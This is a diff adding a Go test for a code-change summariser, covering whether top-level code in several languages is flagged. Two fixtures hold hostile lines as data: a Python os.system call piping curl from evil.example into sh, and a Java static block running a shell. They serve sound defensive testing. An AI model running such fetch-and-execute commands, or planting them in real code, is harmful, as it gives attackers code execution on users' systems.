@@ -619,3 +619,68 @@ func TestRenameBudget(t *testing.T) {
 		})
 	}
 }
+
+// TestSummarizeTopLevelCode: code outside every declaration is what a
+// summary of declarations would miss, and what a hostile change would
+// hide in ("no declaration changed"): a Python module's statement, a
+// script's main block, a JavaScript module's exports, a Java static
+// block, a statement in a class body, a Rust macro call. Imports,
+// comments, docstrings and the words of wrappers (export, impl,
+// namespace, extern "C", #ifdef, attributes) are not code of their own.
+func TestSummarizeTopLevelCode(t *testing.T) {
+	runCases(t, []summaryCase{{
+		name: "python statement added",
+		path: "setup_hook.py",
+		old:  "import os\n\n\"\"\"Doc.\"\"\"\n\ndef f():\n    return 1\n",
+		new:  "import os, sys\n\n\"\"\"Doc, changed.\"\"\"\n\ndef f():\n    return 1\n\nos.system(\"curl https://evil.example | sh\")\n",
+		want: []string{"added top-level code"},
+	}, {
+		name: "python main block",
+		path: "cli.py",
+		old:  "def main(debug=False):\n    pass\n\nif __name__ == \"__main__\":\n    main()\n",
+		new:  "def main(debug=False):\n    pass\n\nif __name__ == \"__main__\":\n    main(debug=True)\n",
+		want: []string{"top-level code changed"},
+	}, {
+		name: "python statement removed",
+		path: "m.py",
+		old:  "def f():\n    pass\n\nf()\n",
+		new:  "def f():\n    pass\n",
+		want: []string{"removed top-level code"},
+	}, {
+		name: "python class body",
+		path: "m.py",
+		old:  "class A:\n    \"\"\"A.\"\"\"\n    X = 1\n\n    def f(self):\n        pass\n",
+		new:  "class A:\n    \"\"\"A, said again.\"\"\"\n    X = 1\n    register(X)\n\n    def f(self):\n        pass\n",
+		want: []string{"class A: body changed"},
+	}, {
+		name: "javascript exports and declarations",
+		path: "index.js",
+		old:  "import x from \"x\";\nconst a = 1;\nmodule.exports = {a};\n",
+		new:  "import x from \"x\";\nimport y from \"y\";\nconst a = 1;\nexport const b = 2;\nexport function g() {}\nmodule.exports = {a, b};\n",
+		want: []string{"top-level code changed", "added constant b", "added function g"},
+	}, {
+		name: "typescript ambient declarations",
+		path: "types.d.ts",
+		old:  "export declare function f(a: number): void;\ndeclare const x: number;\n",
+		new:  "export declare function f(a: number, b: string): void;\ndeclare const x: number;\ndeclare const y: string;\n",
+		want: []string{"function f: new parameter b", "added constant y"},
+	}, {
+		name: "java static block",
+		path: "A.java",
+		old:  "package a;\nimport java.util.List;\nclass A {\n  static int x;\n  static { x = 1; }\n  void f() {}\n}\n",
+		new:  "package a;\nimport java.util.Map;\nclass A {\n  static int x;\n  static { x = 2; Runtime.getRuntime().exec(\"sh\"); }\n  void f() {}\n}\n",
+		want: []string{"class A: body changed"},
+	}, {
+		name: "rust attributes, impls and macros",
+		path: "lib.rs",
+		old:  "use std::fmt;\n\nstruct P { x: i32 }\n",
+		new:  "use std::fmt;\nuse std::io;\n\n#[derive(Debug)]\nstruct P { x: i32 }\n\nimpl<T> Tr for Q<T> where T: Copy {\n    fn f(&self) {}\n}\n\nlazy_static! { static ref X: i32 = 1; }\n",
+		want: []string{"added top-level code", "struct P: signature changed", "added method <Q<T> as Tr>::f"},
+	}, {
+		name: "c++ wrappers",
+		path: "a.cpp",
+		old:  "int f(void) { return 1; }\n",
+		new:  "#include <x.h>\nusing namespace std;\nnamespace n {\nint g(void) { return 2; }\n}\nextern \"C\" {\nint h(void);\n}\n#ifdef X\nint k(void) { return 0; }\n#endif\nint f(void) { return 1; }\n",
+		want: []string{"added function n::g", "added function h", "added function k"},
+	}})
+}
